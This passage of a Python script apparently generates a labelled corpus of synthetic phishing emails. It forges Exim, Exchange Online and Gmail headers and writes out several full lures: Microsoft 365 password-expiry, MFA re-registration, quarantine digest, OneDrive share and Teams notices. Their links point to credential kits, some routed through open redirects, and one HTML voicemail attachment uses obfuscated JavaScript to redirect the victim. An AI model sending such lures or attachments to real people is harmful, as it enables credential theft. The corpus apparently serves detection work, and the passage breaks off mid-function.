               '<div dir="ltr" class="gmail_signature"><div dir="ltr">' + "<br>".join(signature) + "</div></div>")
    return f'<div dir="ltr">{inner}{sig}</div>{quoted}\n'


def plain_from(paragraphs: list[str], signature: list[str] | None = None) -> str:
    import re
    out = []
    for p in paragraphs:
        p = re.sub(r'<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>',
                   lambda m: m.group(2) if m.group(2) == m.group(1) else f"{m.group(2)}\x00{m.group(1)}\x01", p)
        p = re.sub(r"<br\s*/?>", "\n", p)
        p = re.sub(r"<[^>]+>", "", p)
        p = p.replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">").replace("&nbsp;", " ")
        p = p.replace("&bull;", "*").replace("\x00", " <").replace("\x01", ">")
        out.append(p)
    text = "\n".join(out)
    if signature:
        sig = [re.sub(r"<[^>]+>", "", s).replace("&amp;", "&") for s in signature]
        text += "\n\n" + "\n".join(sig)
    return text + "\n"


def emit(stem: str, folder: str, desc: str, raw: bytes) -> None:
    ENTRIES.append((stem, folder, desc, raw))


# ---------------------------------------------------------------- organisations

USU = "lakemont.edu"
STU = "stu.lakemont.edu"
UKHA = "svhomes.org.uk"
AU = "hpeng.com.au"
CA = "aspenprairiecu.ca"

BUILDERS = []


def build(fn):
    BUILDERS.append(fn)
    return fn


def join(*blocks: str) -> str:
    return "\n".join(b.strip("\n") for b in blocks if b)


def alt(seed: str, plain: str, html: str, bnd: str | None = None, enc: str = "quoted-printable",
        charset: str = "utf-8", label: str | None = None) -> Multi:
    return Multi("alternative", bnd or ("----=_Part_" + digits(seed + "alt", 7) + "_" + digits(seed + "alt2", 9) + "."
                                        + digits(seed + "alt3", 13)),
                 [tleaf(plain, "plain", enc, charset, label), tleaf(html, "html", enc, charset, label)])


def exim_cpanel(host: str, ip_client: str, user: str, rcpt: str, t: datetime, seed: str, orig_dom: str) -> str:
    d = user.split("@")[1]
    return join(
        f"Received: from [{ip_client}] (port={num(seed + 'port', 49152, 65000)} helo=[192.168.{num(seed + 'l1', 0, 2)}."
        f"{num(seed + 'l2', 2, 200)}])\n\tby {host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t"
        f"(envelope-from <{user}>)\n\tid 1t{alnum(seed + 'ex1', 5)}-0000000{num(seed + 'ex2', 1, 9)}{alnum(seed + 'ex3', 3)}-"
        f"{alnum(seed + 'ex4', 4)}\n\tfor {rcpt};\n\t{rfc(t)}",
    ), join(
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        f"X-AntiAbuse: Primary Hostname - {host}",
        f"X-AntiAbuse: Original Domain - {orig_dom}",
        f"X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
        f"X-AntiAbuse: Sender Address Domain - {d}",
        f"X-Get-Message-Sender-Via: {host}: authenticated_id: {user}",
        f"X-Authenticated-Sender: {host}: {user}",
    )


CPANEL_H = ("Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To:Cc:Content-Transfer-Encoding:"
            "Content-ID:Content-Description:Resent-Date:Resent-From:Resent-Sender:Resent-To:Resent-Cc:Resent-Message-ID:"
            "In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:List-Subscribe:List-Post:List-Owner:List-Archive")


def ms_button(href: str, label: str, colour: str = "#0067b8") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr><td bgcolor="{colour}" '
            f'style="padding:10px 22px;"><a href="{href}" style="color:#ffffff;text-decoration:none;font-family:'
            f'Segoe UI,Arial,sans-serif;font-size:14px;font-weight:600;">{label}</a></td></tr></table>')


# ================================================================ ATTACKS

@build
def phish_m365_password_expiry():
    stem = "b46-phish-m365-password-expiry"
    rcpt = f"gemma.price@{UKHA}"
    user = "info@kestrelroofing.co.uk"
    host = "lon-cp42.uk-sharedweb.net"
    t = T("2025-11-13 08:41:07")
    ip, rdns = "185.211.4.87", host
    auth = Auth("pass", user, [("pass", "kestrelroofing.co.uk", "default")], "none", "kestrelroofing.co.uk")
    top, bottom = m365_in("ukha", stem, later(t, 3), ip, host, rdns, auth, ctry="GB")
    rcv, abuse = exim_cpanel(host, "102.89.34.17", user, rcpt, t, stem, UKHA)
    link = "https://m365-pw-keep-svh.pages.dev/#Z2VtbWEucHJpY2VAc3Zob21lcy5vcmcudWs="
    html = f"""<!DOCTYPE html>
<html><head><meta charset="UTF-8"><title>Password Expiry</title></head>
<body style="margin:0;padding:0;background:#f3f2f1;">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f3f2f1;padding:24px 0;"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Segoe UI,Arial,sans-serif;color:#323130;">
<tr><td style="padding:20px 28px;border-bottom:1px solid #edebe9;"><span style="font-size:18px;font-weight:600;color:#737373;">Microsoft 365</span></td></tr>
<tr><td style="padding:24px 28px;font-size:14px;line-height:20px;">
<p style="font-size:20px;font-weight:600;margin:0 0 16px 0;">Password Expiry Notice</p>
<p>The password to your mailbox <b>{rcpt}</b> is due to expire today <b>13/11/2025</b>.</p>
<p>You can change your password or continue using your current password by clicking the button below.</p>
{ms_button(link, "Keep Current Password")}
<p style="margin-top:18px;">If you do not take action, your account will be signed out of all devices and incoming messages
may be suspended until your identity is verified.</p>
<p style="color:#605e5c;font-size:12px;">This is an automated message from svhomes.org.uk Administrator. Please do not reply.</p>
</td></tr>
<tr><td style="padding:16px 28px;background:#faf9f8;font-size:11px;color:#8a8886;">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>
&copy; 2025 Microsoft. All rights reserved.</td></tr>
</table></td></tr></table>
</body></html>
"""
    plain = (f"Password Expiry Notice\n\nThe password to your mailbox {rcpt} is due to expire today 13/11/2025.\n\n"
             f"Keep Current Password: {link}\n\nsvhomes.org.uk Administrator\n")
    mid = f"<{alnum(stem + 'mid', 32)}@kestrelroofing.co.uk>"
    bnd = "b1=_" + alnum(stem + "bnd", 42)
    hdr = join(top, rcv, dkim("kestrelroofing.co.uk", "default", CPANEL_H, stem, bits=2048), abuse,
               f"Date: {rfc(t)}",
               f"To: {rcpt}",
               f'From: "Microsoft 365 Admin" <{user}>',
               f"Subject: Password Expiry Notice for {rcpt}",
               f"Message-ID: {mid}",
               "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
               "MIME-Version: 1.0", bottom)
    body = Multi("alternative", bnd, [tleaf(plain, "plain", "8bit", "utf-8", "us-ascii"), tleaf(html, "html", "8bit", "utf-8", "us-ascii")])
    emit(stem, "phishing", "Microsoft 365 'password expiry / keep current password' lure sent with PHPMailer from a compromised "
         "cPanel mailbox of a small roofing firm, linking to a Cloudflare Pages credential kit with the victim's address in "
         "the URL fragment.", message(hdr, body))


@build
def phish_mfa_reregister_amp():
    stem = "b46-phish-mfa-reregister-amp"
    rcpt = f"rholloway@{USU}"
    frm_dom = "lakemont-edu.support"
    user = f"its-security@{frm_dom}"
    t = T("2025-02-18 15:02:44")
    ip, helo = "193.149.176.212", "mail.lakemont-edu.support"
    rdns = "vps-193-149-176-212.hostwindsdns.com"
    auth = Auth("pass", f"bounce@{frm_dom}", [("pass", frm_dom, "s1")], "none", frm_dom)
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="NL")
    target = "https://www.google.com/amp/s/authsync-lakemont.click/mfa/enroll%3Fsid%3D" + lower(stem + "sid", 18)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222;">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #d9d9d9;">
<tr><td style="background:#0b2e59;color:#fff;padding:14px 20px;font-size:18px;font-weight:bold;">Lakemont University &middot; Information Technology Services</td></tr>
<tr><td style="padding:20px;">
<p>Dear Rebecca Holloway,</p>
<p>As part of the University's migration to the new Microsoft Authenticator number-matching policy, all faculty and staff
must <b>re-register their multi-factor authentication (MFA) method</b> by <b>Friday, February 21, 2025</b>.</p>
<p>Accounts that have not completed re-registration by the deadline will be temporarily restricted from Outlook,
Canvas and Workday until a Service Desk ticket is raised.</p>
<p style="text-align:center;margin:26px 0;"><a href="{target}" style="background:#c8102e;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold;border-radius:3px;">Re-register MFA now</a></p>
<p>The process takes under two minutes. You will be asked to sign in with your NetID and approve a prompt on your phone.</p>
<p>Thank you,<br>ITS Identity &amp; Access Management<br>Lakemont University</p>
</td></tr>
<tr><td style="padding:12px 20px;background:#f4f4f4;font-size:11px;color:#777;">ITS will never ask for your password by email. This message was sent to {rcpt}.</td></tr>
</table></body></html>
"""
    plain = plain_from([
        "Dear Rebecca Holloway,",
        "As part of the University's migration to the new Microsoft Authenticator number-matching policy, all faculty and staff "
        "must re-register their multi-factor authentication (MFA) method by Friday, February 21, 2025.",
        f"Re-register MFA now: {target}",
        "ITS Identity & Access Management\nLakemont University"])
    mid = f"<{hx(stem + 'mid', 24)}.{digits(stem + 'mid2', 10)}@{frm_dom}>"
    hdr = join(top,
               dkim(frm_dom, "s1", "from:to:subject:date:message-id:mime-version:content-type", stem, t),
               f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.{frm_dom} (Postfix) with ESMTPSA id "
               f"{alnum(stem + 'pq', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f"From: ITS Security <{user}>",
               f"To: {rcpt}",
               "Subject: [Action Required] MFA re-registration deadline - Feb 21",
               f"Date: {rfc(t)}",
               f"Message-ID: {mid}",
               "MIME-Version: 1.0", bottom)
    body = alt(stem, plain, html)
    emit(stem, "phishing", "Fake university ITS notice demanding MFA re-registration, sent from a freshly registered look-alike "
         "domain with its own SPF/DKIM, whose button goes through a Google AMP URL to an adversary-in-the-middle login kit.",
         message(hdr, body))


@build
def phish_held_messages_bing():
    stem = "b46-phish-held-messages-bing"
    rcpt = f"jnguyen@{AU}"
    user = "wordpress@mitchellvineyards.com.au"
    t = T("2024-09-02 23:17:55")
    ip, helo, rdns = "103.27.32.51", "syd-wp-host09.ventraip.net.au", "syd-wp-host09.ventraip.net.au"
    auth = Auth("pass", user, [("pass", "mitchellvineyards.com.au", "default")], "none", "mitchellvineyards.com.au")
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth, spam="1.9")
    dest = "https://bing.com/ck/a?!&&p=" + hx(stem + "p", 64) + "JmltdHM9MTcyNTIzNTIwMA&ptn=3&ver=2&hsh=4&fclid=" + \
        uid(stem + "fc") + "&u=a1" + base64.urlsafe_b64encode(b"https://hpeng-mailrelease.com/qm/?u=jnguyen%40hpeng.com.au").decode().rstrip("=") + "&ntb=1"
    rows = "".join(
        f'<tr><td style="padding:8px;border-bottom:1px solid #e5e5e5;">{s}</td><td style="padding:8px;border-bottom:1px solid #e5e5e5;">{f}</td>'
        f'<td style="padding:8px;border-bottom:1px solid #e5e5e5;"><a href="{dest}" style="color:#0067b8;">Release</a></td></tr>'
        for s, f in [("RE: Stage 2 drawings - Parramatta Rd", "r.keane@northbuild.com.au"),
                     ("Remittance Advice 0902-2214", "accounts@cbsteel.com.au"),
                     ("Updated RFI register", "ops@ashfieldcivil.com.au"),
                     ("Invoice 10487 overdue", "billing@sitequip.com.au"),
                     ("Site induction pack", "whs@northbuild.com.au"),
                     ("Signed variation VO-17", "contracts@westlinkinfra.com.au"),
                     ("Payment schedule Q3", "finance@cbsteel.com.au")])
    html = f"""<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:13px;color:#201f1e;">
<p style="font-size:17px;font-weight:600;">You have 7 held messages</p>
<p>The following messages sent to <b>{rcpt}</b> have been held in quarantine because of a mail server delivery delay.
Review them and release to your Inbox within 48 hours, otherwise they will be deleted automatically.</p>
<table cellpadding="0" cellspacing="0" style="border:1px solid #e5e5e5;font-size:12px;" width="580">
<tr style="background:#f3f2f1;"><th align="left" style="padding:8px;">Subject</th><th align="left" style="padding:8px;">Sender</th><th></th></tr>
{rows}
</table>
<p><a href="{dest}" style="background:#0067b8;color:#fff;padding:9px 18px;text-decoration:none;">Release all messages</a></p>
<p style="font-size:11px;color:#777;">hpeng.com.au Email Security &middot; Message Center notification</p>
</body></html>
"""
    mid = f"<{alnum(stem + 'mid', 43)}@mitchellvineyards.com.au>"
    hdr = join(top,
               dkim("mitchellvineyards.com.au", "default", CPANEL_H, stem, bits=2048),
               f"Received: from [127.0.0.1] (port=41822 helo=mitchellvineyards.com.au)\n\tby {helo} with esmtpa (Exim 4.97.1)"
               f"\n\t(envelope-from <{user}>)\n\tid 1sl{alnum(stem + 'ex', 5)}-00000004{alnum(stem + 'ex2', 3)}-{alnum(stem + 'ex3', 4)}"
               f"\n\tfor {rcpt};\n\t{rfc(later(t, -1), 'Australia/Sydney')}",
               f"Date: {rfc(t, 'Australia/Sydney')}",
               f"To: {rcpt}",
               f'From: "Quarantine - hpeng.com.au" <{user}>',
               "Subject: Action needed: 7 messages held for jnguyen@hpeng.com.au",
               f"Message-ID: {mid}",
               "X-Mailer: WPMailSMTP/Mailer/mail 4.1.1",
               "MIME-Version: 1.0")
    body = tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")
    emit(stem, "phishing", "'You have 7 held messages' quarantine-digest imitation sent through the WordPress mailer of a "
         "compromised winery site, every Release link going through a Bing ck/a click-tracking open redirect to the kit.",
         message(hdr, body))


# ---------------------------------------------------------------- Exchange Online as the sender

REGIONS = {
    "ca": dict(mbx="YT3PR01MB", dom="CANPRD01.PROD.OUTLOOK.COM", v6="2603:10b6:b01", cu="YT3PR01CU00",
               on="yt3can01on", ip="40.107.116."),
    "us": dict(mbx="BN0PR08MB", dom="namprd08.prod.outlook.com", v6="2603:10b6:408", cu="BN1PR04CU00",
               on="bn1nam04on", ip="40.107.212."),
    "uk": dict(mbx="CWLP265MB", dom="GBRP265.PROD.OUTLOOK.COM", v6="2603:10a6:400", cu="LO3P265CU00",
               on="lo3gbr01on", ip="40.107.122."),
    "au": dict(mbx="SY4P282MB", dom="AUSP282.PROD.OUTLOOK.COM", v6="2603:10c6:10", cu="SY5PR01CU00",
               on="sy5aus01on", ip="40.107.108."),
}


def m365_out(name: str, address: str, to: str, subject: str, t: datetime, seed: str, region: str,
             cc: str = "", in_reply_to: str = "", references: str = "", has_attach: bool = False,
             lang: str = "en-US", thread_topic: str | None = None, arc_dmarc: str = "pass") -> dict:
    """Headers of a message sent from an Exchange Online mailbox, as the next hop receives them."""
    R = REGIONS[region]
    dom = address.split("@")[1]
    mbx = f"{R['mbx']}{num(seed + 'om', 1000, 9999)}.{R['dom']}"
    mbx2 = f"{R['mbx']}{num(seed + 'om2', 1000, 9999)}.{R['dom']}"
    msgid = outlook_msgid(mbx, seed)
    local = msgid[1:].split("@")[0]
    ver = exver(t)
    t1 = later(t, 1)
    helo = f"{R['cu']}{num(seed + 'cu', 1, 9)}.outbound.protection.outlook.com"
    ip = f"{R['ip']}{num(seed + 'oip', 20, 250)}"
    rdns = f"mail-{R['on']}{num(seed + 'onn', 2050, 2139)}.outbound.protection.outlook.com"
    fe = f"fe80::{hx(seed + 'fa', 4)}:{hx(seed + 'fb', 4)}:{hx(seed + 'fc', 4)}:{hx(seed + 'fd', 4)}"
    pre = join(
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b="
        + fold_long(b64(seed + "oas", 342) + "==", 70, 76).replace("\n\t ", "\n "),
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n "
        "h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        "X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n "
        f"bh={b64(seed + 'oabh', 43)}=;\n b=" + fold_long(b64(seed + "oams", 342) + "==", 70, 76).replace("\n\t ", "\n "),
        f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={dom}; dmarc={arc_dmarc} action=none\n"
        f" header.from={dom}; dkim=pass header.d={dom}; arc=none",
        dkim(dom, "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck",
             seed + "odk"),
        f"Received: from {mbx} ({R['v6']}:{hx(seed + 'r1', 3)}::{num(seed + 'r2', 5, 30)}) by\n {mbx2} ({R['v6']}:"
        f"{hx(seed + 'r3', 3)}::{num(seed + 'r4', 5, 30)}) with Microsoft SMTP Server\n (version=TLS1_2, "
        f"cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {rfc(t1)}",
        f"Received: from {mbx}\n ([{fe}]) by {mbx}\n ([{fe}%{num(seed + 'pc', 3, 7)}]) with mapi id {ver.rsplit('.', 1)[0]}.000; {rfc(t)}",
    )
    lines = [f"From: {addr(name, address)}", f"To: {to}"]
    if cc:
        lines.append(f"CC: {cc}")
    lines += [f"Subject: {subject}", f"Thread-Topic: {thread_topic if thread_topic is not None else subject}",
              f"Thread-Index: {thread_index(seed)}", f"Date: {rfc(t)}", f"Message-ID:\n {msgid}"]
    if references:
        lines.append(f"References: {references}")
    if in_reply_to:
        lines.append(f"In-Reply-To: {in_reply_to}")
    lines += [f"Accept-Language: {lang}", f"Content-Language: {lang}",
              f"X-MS-Has-Attach:{' yes' if has_attach else ''}", "X-MS-TNEF-Correlator:",
              "x-ms-publictraffictype: Email",
              f"x-ms-traffictypediagnostic: {mbx.split('.')[0]}:EE_|{mbx2.split('.')[0]}:EE_",
              f"x-ms-office365-filtering-correlation-id: {uid(seed + 'ocorr')}",
              "MIME-Version: 1.0",
              f"X-OriginatorOrg: {dom}",
              f"X-MS-Exchange-CrossTenant-AuthAs: Internal",
              f"X-MS-Exchange-CrossTenant-AuthSource: {mbx}",
              f"X-MS-Exchange-CrossTenant-Network-Message-Id: {uid(seed + 'onm')}",
              f"X-MS-Exchange-CrossTenant-originalarrivaltime: {t.astimezone(ZoneInfo('UTC')).strftime('%d %b %Y %H:%M:%S')}.{digits(seed + 'oms', 4)} (UTC)",
              "X-MS-Exchange-CrossTenant-fromentityheader: Hosted",
              f"X-MS-Exchange-CrossTenant-id: {uid(seed + dom + 'tenant')}",
              "X-MS-Exchange-CrossTenant-mailboxtype: HOSTED",
              f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx2.split('.')[0]}"]
    return dict(pre=pre, hdrs="\n".join(lines), bnd=f"_000_{local}_", mixbnd=f"_004_{local}_", relbnd=f"_005_{local}_",
                helo=helo, ip=ip, rdns=rdns, msgid=msgid, dom=dom, t_out=later(t, 2))


def google_out(address: str, to_dom: str, t: datetime, seed: str, workspace: bool = True) -> dict:
    """Outbound headers of Google Workspace (or consumer Gmail) as the next hop receives them."""
    dom = address.split("@")[1]
    ip = f"209.85.220.{num(seed + 'gip', 41, 73)}"
    helo = f"mail-sor-f{ip.rsplit('.', 1)[1]}.google.com"
    sigs = []
    pre = []
    if workspace:
        pre.append(dkim(dom, "google", "mime-version:from:date:message-id:subject:to", seed + "wdk", t, unix(t) + 604800,
                        f"darn={to_dom};"))
        pre.append(dkim(dom.replace(".", "-") + ".20230601.gappssmtp.com", "20230601",
                        "mime-version:from:date:message-id:subject:to", seed + "gapps", t, unix(t) + 604800,
                        f"darn={to_dom};"))
        sigs = [("pass", dom, "google"), ("pass", dom.replace(".", "-") + ".20230601.gappssmtp.com", "20230601")]
    else:
        pre.append(dkim("gmail.com", "20230601", "to:subject:message-id:date:from:mime-version:from:to:cc:subject"
                        ":date:message-id:reply-to", seed + "gdk", t, unix(t) + 604800, f"darn={to_dom};"))
        sigs = [("pass", "gmail.com", "20230601")]
    pre += [
        f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={unix(t)}; "
        f"x={unix(t) + 604800};\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n"
        "         :from:to:cc:subject:date:message-id:reply-to;\n"
        f"        bh={b64(seed + 'xgbh', 43)}=;\n        b=" + fold_long(b64(seed + "xgd", 342) + "==", 60, 70).replace("\n\t ", "\n         "),
        f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 58)}",
        f"X-Google-Smtp-Source: AGHT+IF{b64(seed + 'gss', 61)}",
        f"X-Received: by 2002:a05:6402:{hx(seed + 'gx1', 4)}:b0:{hx(seed + 'gx2', 3)}:{hx(seed + 'gx3', 4)}:{hx(seed + 'gx4', 4)}"
        f" with SMTP id 4fb4d7f45d1cf-{hx(seed + 'gx5', 12)}mr{num(seed + 'gx6', 1000000, 9999999)}a12.\n"
        f"        {num(seed + 'gx7', 10, 99)}.{unix(t) % 10000000}; {rfc(t, 'America/Los_Angeles', True)}",
    ]
    return dict(pre="\n".join(pre), ip=ip, helo=helo, rdns=helo, sigs=sigs, msgid=gmail_msgid(seed),
                bnd=gmail_boundary(seed), mixbnd=gmail_boundary(seed + "mix"), relbnd=gmail_boundary(seed + "rel"),
                t_out=later(t, 1))


def ref_id(org: str, seed: str) -> str:
    """Message-ID of an earlier message written in one of our Exchange Online tenants."""
    return outlook_msgid(m365_names(org, seed + "ref")["mbx"], seed + "ref")


# ================================================================ more attacks

@build
def phish_onedrive_share_supplier():
    stem = "b46-phish-onedrive-share-supplier"
    rcpt = f"cgagnon@{CA}"
    t = T("2025-06-10 14:26:31")
    o = m365_out("Kyle Brandt", "kbrandt@prairiefleetsolutions.ca", f"Chantal Gagnon <{rcpt}>",
                 "Kyle Brandt shared \"APCU - Fleet Lease Statement June 2025\" with you", t, stem, "ca",
                 thread_topic="Kyle Brandt shared \"APCU - Fleet Lease Statement June 2025\" with you")
    auth = Auth("pass", "kbrandt@prairiefleetsolutions.ca", [("pass", "prairiefleetsolutions.ca", "selector1")], "pass",
                "prairiefleetsolutions.ca", "quarantine")
    top = gmail_in(rcpt, stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth)
    link = "https://northernpinesyoga.ca/wp-content/uploads/2023/02/share/?id=" + lower(stem + "id", 24) + "&e=" + \
        base64.b64encode(rcpt.encode()).decode()
    html = f"""<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style>
</head>
<body dir="ltr">
<div style="font-family:Segoe UI,Tahoma,sans-serif;max-width:500px;border:1px solid #e1dfdd;padding:24px;">
<div style="font-size:14px;color:#605e5c;">OneDrive</div>
<div style="font-size:21px;color:#323130;margin:14px 0;">Kyle Brandt shared a file with you</div>
<div style="font-size:14px;color:#323130;margin-bottom:14px;">Hi Chantal, please find the lease statement and updated payment schedule for the June
billing cycle. Let me know once reviewed.</div>
<table style="border:1px solid #e1dfdd;width:100%;"><tr><td style="padding:12px;font-size:14px;">
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/pdf.png" width="24" height="24" alt="">
&nbsp;APCU - Fleet Lease Statement June 2025.pdf</td></tr></table>
<div style="margin-top:18px;"><a href="{link}" style="background:#0078d4;color:#ffffff;padding:8px 20px;text-decoration:none;font-size:14px;">Open</a></div>
<div style="font-size:11px;color:#a19f9d;margin-top:22px;">This link will work for anyone with access. Privacy Statement</div>
</div>
<div class="elementToProof" style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);"><br></div>
<div id="Signature"><p style="margin:0;font-family:Calibri,sans-serif;font-size:10pt;color:#1F3864">Kyle Brandt<br>
Accounts Receivable | Prairie Fleet Solutions Ltd.<br>
1440 McIntosh St, Regina, SK S4R 6Y2<br>
T: 306-555-0172</p></div>
</body>
</html>
"""
    plain = ("OneDrive\n\nKyle Brandt shared a file with you\n\nHi Chantal, please find the lease statement and updated "
             "payment schedule for the June billing cycle. Let me know once reviewed.\n\nAPCU - Fleet Lease Statement June "
             f"2025.pdf\n\nOpen <{link}>\n\nKyle Brandt\nAccounts Receivable | Prairie Fleet Solutions Ltd.\n"
             "1440 McIntosh St, Regina, SK S4R 6Y2\nT: 306-555-0172\n")
    body = Multi("alternative", o["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "us-ascii"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "us-ascii")])
    emit(stem, "phishing", "Hand-built OneDrive 'shared a file with you' card sent from a supplier's compromised Exchange "
         "Online mailbox (all authentication passes), the Open button pointing at a kit on a compromised WordPress site "
         "with the victim's address base64-encoded in the query.",
         message(join(top, o["pre"], o["hdrs"]), body))


@build
def phish_teams_missed_r2():
    stem = "b46-phish-teams-missed-r2"
    rcpt = f"praman@{USU}"
    dom = "teams-chatnotify.com"
    t = T("2025-04-22 17:48:02")
    ip, helo, rdns = "45.88.186.54", f"mail.{dom}", "45-88-186-54.ip.linodeusercontent.com"
    auth = Auth("pass", f"noreply@{dom}", [("pass", dom, "mail")], "none", dom)
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="DE")
    link = f"https://pub-{hx(stem + 'r2', 32)}.r2.dev/teams/view.html#cHJhbWFuQGxha2Vtb250LmVkdQ=="
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;font-family:'Segoe UI',Helvetica,Arial,sans-serif;">
<table align="center" width="520" style="background:#fff;margin:20px auto;border-radius:4px;" cellpadding="0" cellspacing="0">
<tr><td style="padding:22px 30px 6px 30px;"><span style="color:#5b5fc7;font-size:20px;font-weight:600;">Microsoft Teams</span></td></tr>
<tr><td style="padding:6px 30px;font-size:20px;color:#242424;font-weight:600;">You have 4 unread messages</td></tr>
<tr><td style="padding:6px 30px 16px 30px;font-size:14px;color:#424242;">Your teammates are trying to reach you in Microsoft Teams.</td></tr>
<tr><td style="padding:0 30px;"><table width="100%" style="border-left:3px solid #5b5fc7;background:#fafafa;">
<tr><td style="padding:10px 12px;font-size:13px;color:#242424;"><b>Department Chair</b> &middot; 3:12 PM<br>
Priya - can you confirm the updated TA allocation before the meeting? I put the spreadsheet in the chat.</td></tr></table></td></tr>
<tr><td style="padding:22px 30px;"><a href="{link}" style="background:#5b5fc7;color:#fff;text-decoration:none;padding:10px 24px;border-radius:4px;font-size:14px;font-weight:600;">Reply in Teams</a></td></tr>
<tr><td style="padding:14px 30px 24px 30px;font-size:11px;color:#616161;">You're receiving this email because you have unread activity in Teams.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></body></html>
"""
    plain = ("Microsoft Teams\n\nYou have 4 unread messages\n\nDepartment Chair - 3:12 PM\nPriya - can you confirm the updated "
             f"TA allocation before the meeting? I put the spreadsheet in the chat.\n\nReply in Teams: {link}\n")
    hdr = join(top,
               dkim(dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Received: by mail.{dom} (Postfix, from userid 33)\n\tid {alnum(stem + 'q', 10, 'ABCDEF0123456789')}; {rfc(t)}",
               f"To: {rcpt}",
               "Subject: You have 4 unread messages in Teams",
               f"From: Microsoft Teams <noreply@{dom}>",
               f"Date: {rfc(t)}",
               f"Message-ID: <{hx(stem + 'mid', 32)}@{dom}>",
               "MIME-Version: 1.0", bottom)
    body = alt(stem, plain, html, bnd="b1_" + hx(stem + "b", 32))
    emit(stem, "phishing", "Microsoft Teams 'you have 4 unread messages' imitation from a look-alike notification domain with "
         "its own SPF/DKIM, linking to a credential page on a Cloudflare R2 public bucket with the address in the fragment.",
         message(hdr, body))


@build
def phish_voicemail_html_attachment():
    stem = "b46-phish-voicemail-htm"
    rcpt = f"owen.davies@{UKHA}"
    t = T("2025-01-28 10:05:49")
    o = m365_out("Voice Services", "dispatch@tristatehvacpros.com", rcpt,
                 "VM Notification: 01614960148 left you a message (00:47s)", t, stem, "us", has_attach=True)
    auth = Auth("pass", "dispatch@tristatehvacpros.com", [("pass", "tristatehvacpros.com", "selector1")], "none",
                "tristatehvacpros.com")
    top, bottom = m365_in("ukha", stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth, ctry="US", v6=False)
    target = base64.b64encode(b"https://voice-playback.sharepoint-docs.org/vm/?uid=").decode()
    victim = base64.b64encode(rcpt.encode()).decode()
    htm = f"""<html>
<head><title>Voice Message</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
</head>
<body style="background:#f2f2f2;font-family:Arial;">
<div style="margin:80px auto;width:340px;text-align:center;color:#555;">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width="1" height="1">
<p>Loading audio player&hellip;</p>
</div>
<script>
var _0x1 = "{target}";
var _0x2 = "{victim}";
setTimeout(function(){{ window.location.replace(atob(_0x1) + atob(_0x2)); }}, 900);
</script>
</body>
</html>
"""
    html = outlook_html([
        "<b>New voicemail received</b>",
        "",
        "From: 01614960148",
        "To: Owen Davies",
        "Duration: 00:47s",
        "Received: Tuesday, January 28, 2025 10:04 AM",
        "",
        "Please find the attached audio playback file to listen to the message.",
        "",
        "<span style=\"font-size:9pt;color:#777\">Unified Messaging Service | Do not reply to this email</span>"])
    plain = ("New voicemail received\n\nFrom: 01614960148\nTo: Owen Davies\nDuration: 00:47s\nReceived: Tuesday, "
             "January 28, 2025 10:04 AM\n\nPlease find the attached audio playback file to listen to the message.\n\n"
             "Unified Messaging Service | Do not reply to this email\n")
    body = Multi("mixed", o["mixbnd"], [
        Multi("alternative", o["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "us-ascii"),
                                       tleaf(html, "html", "quoted-printable", "utf-8", "us-ascii")]),
